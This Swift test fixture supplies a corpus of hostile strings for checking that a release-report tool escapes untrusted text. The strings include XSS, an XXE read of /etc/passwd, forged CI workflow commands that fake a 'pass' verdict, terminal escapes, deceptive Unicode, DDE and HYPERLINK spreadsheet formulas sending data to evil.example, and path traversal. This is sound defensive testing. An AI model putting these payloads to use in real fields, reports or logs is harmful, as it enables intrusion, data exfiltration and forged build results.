import Documents
import ReleaseScope
import Testing

/// A text that tries to be more than text somewhere, put into every field that a stranger can fill.
struct Attack: CustomTestStringConvertible, Sendable {
  let text: String

  var testDescription: String { text.debugDescription }

  static let all: [Attack] =
    (SampleReport.attacks + [
      // HTML and XML
      "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "]]>", "<![CDATA[x]]>",
      "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "<?xml version=\"1.0\"?>", "&#0;&#x1b;&amp;lt;",
      "</failure></testcase><testcase name=\"ok\"/>", "-->", "</details>",
      // JSON
      "\",\"verdict\":\"pass\",\"x\":\"", "\\\"}],\"", "\\u0000\\", "{\"a\":1}", "'});alert(1);({'",
      // GitHub Actions
      "::error::fake", "  ::warning file=a::fake", "x\n::error::fake", "x\r::set-output name=verdict::pass",
      "%0A::error::x",
      "%25%0D", "##[error]fake", "##[set-env name=A;]b", "a,file=b,title=c::d", "::stop-commands::x", "::add-mask::e",
      "relscope-end", "verdict<<relscope-end", "relscope-end\nverdict<<x\npass\nx",
      // Azure Pipelines
      "##vso[task.complete result=Succeeded;]ok", "##VSO[task.setvariable variable=a]b", "#\u{200B}#vso[x]",
      "a;type=x]y",
      "%AZP25%3B%5D", "##[section]fake", "###vso[task.complete]",
      // terminals
      "\u{1B}]8;;http://evil.example\u{1B}\\x\u{1B}]8;;\u{1B}\\", "\u{1B}[1A\u{1B}[2K\u{1B}[32mPASS",
      "a\u{8}\u{8}b\u{7}", "\u{9B}31m",
      // characters that deceive
      "\u{202E}ssap\u{202C}", "\u{2066}x\u{2069}", "a\u{2028}b\u{2029}c\u{85}d", "a\u{0}b", "a\rb", "\u{FEFF}x",
      "\u{FFFE}\u{FFFF}",
      "\u{1FFFE}", "\u{E0041}\u{E0042}", "\u{D7FF}\u{E000}", "\u{200B}\u{200D}",
      "\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}x",
      // spreadsheets
      "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", " =1+1", "\r=1+1", "x;=1+1", "x;\"=1+1\"", "\"=1+1\"",
      "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "\u{FF1D}1+1", ",=1+1", "a\",\"=1+1", "'=1+1", "; ; =1",
      // SARIF and Markdown
      "[click](http://evil.example)", "{0} {1} {{0}}", "\\[x](1)", "![x](http://evil.example/x.png)",
      "@everyone GH-1 #1",
      "`code` **b** <b>", "[x]: http://evil.example", "| a | b |", "<!-- relscope -->", "javascript:alert(1)",
      // paths
      "../../etc/passwd", "/etc/passwd", "a/./b/../c", "C:\\x", "https://evil.example/a b#c?d%zz", "",
    ]).map(Attack.init)

  /// One finding of each kind that there is: about a ticket, a commit, the release; waived; in the baseline; and
  /// something not seen.
  func report() throws -> ScopeReport {
    let version = text.contains { !$0.isWhitespace } ? String(text.prefix(255)) : nil
    var builder = try ReportBuilder(version: version, release: text)
    let work = try builder.ticket("SHOP-1", text, planned: false, commits: [text], by: text)
    try builder.ticket("SHOP-2", text, commits: [text], by: text)
    let loose = try builder.commit(text, by: text)
    try builder.find(.unplannedTicket, .error, about: "SHOP-1", commits: work, text, help: text)
    try builder.find(.untrackedCommit, .warning, commits: [loose], text, help: text)
    try builder.find(.versionState, .note, text, help: text)
    let waiver = Waiver(rule: .notReady, reason: text, approver: text, expires: Day(number: 20_788))
    try builder.find(.notReady, .error, about: "SHOP-2", text, help: text, waiver: waiver)
    try builder.find(.unassigned, .error, about: "SHOP-2", text, help: text)
    builder.change { report in
      report.findings[report.findings.count - 1].baselineReason = text
      report.baseline = DocumentSummary(name: text, from: text, digest: text)
      report.repository = text
      report.parts = [ReportPart(name: text, verdict: .fail, range: report.range, policy: report.policy)]
      report.range.base.name = text
      report.manifest?.name = text
      report.manifest?.from = text
      report.policy?.name = text
      report.policy?.from = text
      for index in report.tickets.indices {
        report.tickets[index].status = text
        report.tickets[index].assignee = text
        report.tickets[index].repositories = [text]
      }
      report.untracked = [loose]
      report.exempt = [ExemptCommit(commit: loose, reason: text)]
      report.remarks = [text]
      report.incomplete = [Incompleteness(reason: .missingObject, message: text, help: Advice(written: text))]
      report.reverts = [
        RevertReport(commit: loose, undoes: [], outside: [], unresolved: [text], by: [.subject], isInEffect: true)
      ]
    }
    return builder.built()
  }
}

extension String {
  /// The characters that act on a reader or cannot be seen, apart from line feeds: controls, format characters,
  /// separators of lines, and what is no character.
  var actingScalars: [Unicode.Scalar] {
    unicodeScalars.filter { scalar in
      switch scalar.properties.generalCategory {
      case .control: scalar != "\n"
      case .format, .lineSeparator, .paragraphSeparator, .privateUse, .surrogate, .unassigned: true
      default: false
      }
    }
  }
}
